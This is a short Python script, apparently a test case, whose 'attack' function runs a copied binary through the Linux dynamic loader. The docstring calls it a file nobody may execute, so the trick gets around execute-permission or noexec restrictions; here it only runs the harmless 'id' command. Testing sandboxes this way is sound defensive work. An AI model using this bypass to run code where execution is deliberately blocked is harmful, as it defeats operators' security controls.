"""A file nobody may execute, run by the dynamic loader."""

import glob
import os
import shutil
import subprocess


def attack(event):
    path = shutil.copyfile(shutil.which("id"), os.path.join(event["tmp"], "data.bin"))
    machine = os.uname().machine.replace("_", "-")
    loader = glob.glob(f"/lib*/ld-linux-{machine}.so.*")[0]
    return subprocess.run([loader, path], capture_output=True).stdout.decode()
